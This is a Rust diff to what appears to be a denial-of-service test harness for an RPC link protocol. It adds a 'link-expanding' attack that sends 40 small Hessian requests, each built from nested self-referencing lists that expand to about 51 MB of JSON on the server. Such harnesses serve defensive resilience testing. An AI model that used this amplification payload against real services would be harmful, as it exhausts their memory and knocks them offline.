@@ -7,6 +7,7 @@ use link_proto::header::{FrameKind, Header, MAGIC, flags};
 use link_proto::version::{VERSION_MAX, VERSION_MIN};
 
 use super::{Attack, COMMON, Door, SCENE, Scene};
+use crate::estate::APP_INTERFACE;
 use crate::peer::{Crowd, Peer};
 
 /// Below the longest message, 8 MiB; so many fit into what one link may put together, 64 MiB.
@@ -16,6 +17,12 @@ const PART_LEN: usize = 32 * 1024;
 /// Long over when the attack is.
 const REQUEST_TIMEOUT_MS: u32 = 100;
 const REFUSED_PER_BATCH: u64 = 200;
+/// A text in lists of lists that refer so often to the list before.
+const TEXT_LEN: usize = 900;
+const N_REFERENCES: usize = 38;
+const N_LISTS: u32 = 3;
+const N_EXPANDING: u32 = 40;
+const EXPANDING_TIMEOUT_MS: u32 = 10_000;
 /// The longest name that a service may have in a DEFINE.
 const NAME_LEN: usize = 1024;
 
@@ -33,6 +40,13 @@ pub(super) const ALL: &[Attack] = &[
         name: "link-defines",
         about: "4 links define routes of services that nobody offers, without end",
         peer: |aim| Box::pin(Crowd::of(4).run(aim, defines)),
+        ..LINK
+    },
+    Attack {
+        name: "link-expanding",
+        about: "a link sends 40 requests of 1.6 kB at a time to an HTTP app, each 51 MB as JSON",
+        scene: Scene { has_http_app: true, ..LINK.scene },
+        peer: |aim| Box::pin(Crowd::of(1).run(aim, expanding)),
         ..LINK
     },
 ];
@@ -55,8 +69,12 @@ fn hello() -> Vec<u8> {
 
 /// Appends a DEFINE of route 0, for the `round`th time.
 fn define(out: &mut Vec<u8>, service: &str, round: u64) {
+    define_method(out, service, "Ljava/lang/String;", round);
+}
+
+fn define_method(out: &mut Vec<u8>, service: &str, descriptor: &str, round: u64) {
     let mut body = 0_u32.to_be_bytes().to_vec();
-    for text in [service, "hash", "Ljava/lang/String;"] {
+    for text in [service, "hash", descriptor] {
         body.extend_from_slice(&u16::try_from(text.len()).unwrap_or(u16::MAX).to_be_bytes());
         body.extend_from_slice(text.as_bytes());
     }
@@ -123,4 +141,42 @@ async fn defines(mut peer: Peer) -> io::Result<()> {
         }
         peer.turn(&mut out).await?;
     }
+}
+
+async fn expanding(mut peer: Peer) -> io::Result<()> {
+    let mut args = Vec::new();
+    let mut encoder = hessian::Encoder::new(&mut args);
+    encoder.list_begin(None, N_LISTS as usize + 1);
+    encoder.list_begin(None, 1);
+    encoder.string(&"a".repeat(TEXT_LEN));
+    for inner in 1..=N_LISTS {
+        encoder.list_begin(None, N_REFERENCES);
+        (0..N_REFERENCES).for_each(|_| encoder.reference(inner));
+    }
+    peer.send(&hello()).await?;
+    peer.read().await?;
+    let mut out = Vec::new();
+    define_method(&mut out, APP_INTERFACE, "Ljava/lang/Object;", 0);
+    for slot in 0..N_EXPANDING {
+        let mut body = 0_u32.to_be_bytes().to_vec();
+        body.extend_from_slice(&EXPANDING_TIMEOUT_MS.to_be_bytes());
+        body.extend_from_slice(&args);
+        write(&mut out, FrameKind::Request, 0, slot.into(), &body);
+    }
+    peer.send(&out).await?;
+    // Once all were answered, the next ones come on a new link.
+    let (mut n_left, mut answers) = (N_EXPANDING, Vec::new());
+    while 0 < n_left {
+        answers.extend_from_slice(peer.read().await?);
+        while let Some(head) = answers.first_chunk() {
+            let header = Header::parse(head);
+            let len = link_proto::header::HEADER_LEN + header.body_len as usize;
+            if answers.len() < len {
+                break;
+            }
+            n_left -= u32::from(header.kind == FrameKind::Response as u8);
+            answers.drain(..len);
+        }
+    }
+    Ok(())
 }
